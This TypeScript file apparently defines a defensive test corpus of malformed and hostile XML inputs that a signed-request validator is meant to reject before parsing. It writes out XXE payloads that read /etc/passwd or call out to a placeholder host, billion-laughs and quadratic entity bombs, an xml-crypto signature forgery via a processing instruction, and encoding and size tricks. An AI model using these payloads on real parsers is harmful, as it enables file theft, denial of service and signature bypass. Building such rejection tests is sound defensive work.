import { attacksAt } from './attack';
import type { Attack } from './attack';
import { REQUEST, sealed } from './sealed';

const SIGNED = sealed();
const DECLARATION = '<?xml version="1.0" encoding="UTF-8"?>';
const inText = (inside: string): string =>
  SIGNED.replace('<sr:ReadDeviceLog></sr:ReadDeviceLog>', `<sr:ReadDeviceLog>${inside}</sr:ReadDeviceLog>`);
const octetsInText = (...octets: number[]): Buffer => {
  const [before = '', after = ''] = inText('|').split('|');
  return Buffer.concat([Buffer.from(before), Buffer.from(octets), Buffer.from(after)]);
};
const utf16be = (text: string): Buffer => Buffer.from(text, 'utf16le').swap16();
const doctype = (inside: string): string => `<!DOCTYPE sr:Request${inside}>${SIGNED}`;
const laughs = Array.from({ length: 9 }, (_, i) => `<!ENTITY l${i + 1} "${`&l${i};`.repeat(10)}">`).join('');

/** Refused before any parser sees them. */
export const ADMISSION_ATTACKS: readonly Attack[] = attacksAt('admission', [
  ['doctype-bare', 'doctype', 'A DOCTYPE alone: the door to entities, defaults and external subsets', doctype('')],
  ['doctype-lower-case', 'doctype', 'A DOCTYPE in lower case, for scanners that look for capitals', `<!doctype sr:Request>${SIGNED}`],
  [
    'doctype-after-comment',
    'doctype',
    'A DOCTYPE behind a comment that fakes the start of the root',
    `${DECLARATION}<!-- <sr:Request> -->\n<!DOCTYPE sr:Request>${SIGNED}`,
  ],
  [
    'doctype-billion-laughs',
    'doctype',
    'Entities that expand tenfold nine times over',
    doctype(` [<!ENTITY l0 "lol">${laughs}]`).replace('8.9<', '&l9;<'),
  ],
  [
    'doctype-quadratic-entity',
    'doctype',
    'One long entity, used often: expansion that depth limits do not see',
    doctype(` [<!ENTITY a "${'a'.repeat(2000)}">]`).replace('8.9<', `${'&a;'.repeat(200)}<`),
  ],
  [
    'doctype-external-entity',
    'doctype',
    'An entity that is a file of the target',
    doctype(' [<!ENTITY x SYSTEM "file:///etc/passwd">]').replace('8.9<', '&x;<'),
  ],
  [
    'doctype-external-entity-http',
    'doctype',
    'An entity that makes the target call out',
    doctype(' [<!ENTITY x SYSTEM "http://192.0.2.1/x">]').replace('8.9<', '&x;<'),
  ],
  ['doctype-external-subset', 'doctype', 'An external DTD that makes the target call out', doctype(' SYSTEM "http://192.0.2.1/x.dtd"')],
  [
    'doctype-public-identifier',
    'doctype',
    'An external DTD by public identifier, for catalogues',
    doctype(' PUBLIC "-//W3C//DTD XMLSCHEMA 200102//EN" "XMLSchema.dtd"'),
  ],
  [
    'doctype-parameter-entity',
    'doctype',
    'A parameter entity that loads further declarations',
    doctype(' [<!ENTITY % p SYSTEM "http://192.0.2.1/p.dtd"> %p;]'),
  ],
  [
    'doctype-default-attribute',
    'doctype',
    'A default attribute that appears in the digest of one parser and not of another',
    doctype(' [<!ATTLIST sr:Request schemaVersion CDATA "5.0">]'),
  ],
  [
    'doctype-id-attribute',
    'doctype',
    'An attribute declared to be an ID, so that a Reference finds what the attacker likes',
    doctype(' [<!ATTLIST sr:Body x ID #IMPLIED>]'),
  ],
  ['declaration-in-content', 'markup-declaration', 'An ENTITY declaration inside an element', inText('<!ENTITY x "y">')],

  [
    'pi-in-signed-text',
    'processing-instruction',
    'The xml-crypto forgery: signed is counter 1000, readers see 100, and xml-crypto digests the data of the instruction as text',
    SIGNED.replace(':1000<', ':1<?z 0?>00<'),
  ],
  ['pi-in-body', 'processing-instruction', 'An instruction with a blank, which vanishes for readers', inText('<?z ?>')],
  [
    'pi-stylesheet',
    'processing-instruction',
    'An xml-stylesheet in the prolog',
    `<?xml-stylesheet href="http://192.0.2.1/x.xsl"?>${SIGNED}`,
  ],
  [
    'pi-after-root',
    'processing-instruction',
    'An instruction after the root, inside the canonical form and outside the tree',
    `${SIGNED}<?z z?>`,
  ],
  [
    'pi-in-signature-value',
    'processing-instruction',
    'An instruction inside SignatureValue',
    SIGNED.replace('</ds:SignatureValue>', '<?z z?></ds:SignatureValue>'),
  ],
  ['pi-xml-twice', 'processing-instruction', 'A second XML declaration, inside the document', inText(DECLARATION)],
  ['pi-xml-late', 'processing-instruction', 'An XML declaration after a blank, which is none', ` ${DECLARATION}${SIGNED}`],

  [
    'encoding-utf16-le-mark',
    'other-encoding',
    'UTF-16 with its byte order mark: libxml2 takes it, scanners of octets see nothing in it',
    Buffer.from(`\uFEFF${SIGNED}`, 'utf16le'),
  ],
  ['encoding-utf16-be-mark', 'other-encoding', 'The same, big end first', utf16be(`\uFEFF${SIGNED}`)],
  ['encoding-utf16-le', 'other-encoding', 'UTF-16 without a mark', Buffer.from(SIGNED, 'utf16le')],
  ['encoding-utf16-doctype', 'other-encoding', 'A DOCTYPE hidden in UTF-16', Buffer.from(`\uFEFF${doctype('')}`, 'utf16le')],
  ['encoding-utf8-marks', 'text-outside', 'UTF-8 with two byte order marks: the second is text', `\uFEFF\uFEFF${SIGNED}`],
  [
    'encoding-declared-latin1',
    'declaration',
    'Octets of UTF-8 declared as ISO-8859-1: two readings of one signature',
    `<?xml version="1.0" encoding="ISO-8859-1"?>${SIGNED}`,
  ],
  ['encoding-declared-utf16', 'declaration', 'Octets of UTF-8 declared as UTF-16', `<?xml version="1.0" encoding="UTF-16"?>${SIGNED}`],
  [
    'encoding-declared-utf7',
    'declaration',
    'UTF-7, in which `+ADw-` is a `<`',
    `<?xml version="1.0" encoding="UTF-7"?>${inText('+ADw-x/+AD4-')}`,
  ],
  [
    'declaration-xml-1.1',
    'declaration',
    'XML 1.1, which has other line ends and more characters',
    `<?xml version="1.1" encoding="UTF-8"?>${SIGNED}`,
  ],
  ['octets-not-utf8', 'not-utf8', 'An octet that UTF-8 never has', octetsInText(0xff)],
  ['octets-overlong', 'not-utf8', 'A `<` in two octets, where one would do', octetsInText(0xc0, 0xbc, 0x78, 0x2f, 0xc0, 0xbe)],
  ['octets-surrogate', 'not-utf8', 'A lone surrogate as three octets', octetsInText(0xed, 0xa0, 0x80)],
  ['octets-surrogate-pair', 'not-utf8', 'A surrogate pair as six octets (CESU-8)', octetsInText(0xed, 0xa0, 0xbd, 0xed, 0xb8, 0x80)],
  ['octets-cut-short', 'not-utf8', 'A character cut short before a tag', octetsInText(0xe2, 0x82)],
  ['octets-beyond-unicode', 'not-utf8', 'A character beyond U+10FFFF', octetsInText(0xf4, 0x90, 0x80, 0x80)],
  [
    'octet-nul',
    'nul',
    'A NUL, at which parsers in C may think the document ends',
    Buffer.concat([Buffer.from(SIGNED), Buffer.from([0]), Buffer.from('<x/>')]),
  ],

  [
    'size-document',
    'too-large',
    'A document beyond any real one',
    inText('<x>@EXPAND@</x>'),
    { expand: { text: '<!--0123456789-->', times: 1_048_576 } },
  ],
  [
    'size-text',
    'too-large',
    'Text without end in one element',
    inText('@EXPAND@'),
    { expand: { text: '0123456789ABCDEF', times: 950_000 } },
  ],
  [
    'size-attribute',
    'too-large',
    'An attribute without end',
    SIGNED.replace('schemaVersion="4.0"', 'schemaVersion="4.@EXPAND@"'),
    { expand: { text: '0000000000', times: 10_000 } },
  ],
  [
    'size-attributes',
    'too-large',
    'Ten thousand attributes, each to be compared with each',
    inText('<x @EXPAND@/>'),
    { expand: { text: 'a="" ', times: 10_000 } },
  ],
  [
    'size-namespaces',
    'too-large',
    'A thousand namespaces in scope of every element',
    inText('<x @EXPAND@/>'),
    { expand: { text: 'xmlns:a="urn:aaaaaaaaaaaaaaaaaaaaaaaa" ', times: 1_000 } },
  ],
  ['size-name', 'too-large', 'An element name without end', inText('<@EXPAND@/>'), { expand: { text: 'aaaaaaaaaa', times: 10_000 } }],
  ['size-elements', 'too-many', 'Elements without end', inText('@EXPAND@'), { expand: { text: '<x/>', times: 100_001 } }],
  ['depth-100', 'too-deep', 'Elements a hundred deep', inText(`${'<x>'.repeat(100)}${'</x>'.repeat(100)}`)],
  [
    'depth-unclosed',
    'too-deep',
    'A million elements that only open, against recursion',
    REQUEST.replace(/<\/sr:Body>.*$/, '@EXPAND@'),
    { expand: { text: '<x>', times: 1_000_000 } },
  ],

  ['tag-unclosed', 'tag', 'A tag that never ends', SIGNED.slice(0, -1)],
  [
    'end-tag-of-another-name',
    'end-tag',
    'An end tag of another name, which xmldom takes no notice of, so that the Signature ends where nothing ends it',
    SIGNED.replace('</ds:Signature>', '</ds:Seal>'),
  ],
  ['end-tag-with-more', 'end-tag', 'An end tag with an attribute', SIGNED.replace('</ds:Signature>', '</ds:Signature Id="x">')],
  [
    'tag-in-attribute',
    'tag',
    'A `<` in an attribute, where one parser sees a tag and another text',
    SIGNED.replace('schemaVersion="4.0"', 'schemaVersion="4.0<x>"'),
  ],
  ['comment-unclosed', 'unended-section', 'A comment that never ends', `${SIGNED}<!-- `],
  ['cdata-unclosed', 'unended-section', 'A CDATA section that never ends', inText('<![CDATA[')],
  ['empty', 'empty', 'Nothing at all', ''],
]);
